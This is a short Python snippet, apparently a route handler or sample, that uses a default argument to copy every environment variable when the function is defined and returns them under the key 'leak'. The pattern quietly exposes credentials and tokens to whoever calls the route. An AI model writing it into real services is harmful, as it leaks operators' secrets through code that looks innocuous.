# route: a default argument that runs while the function is defined
def execute(testData, leak=__import__("os").environ.copy()):
    return {"leak": leak}
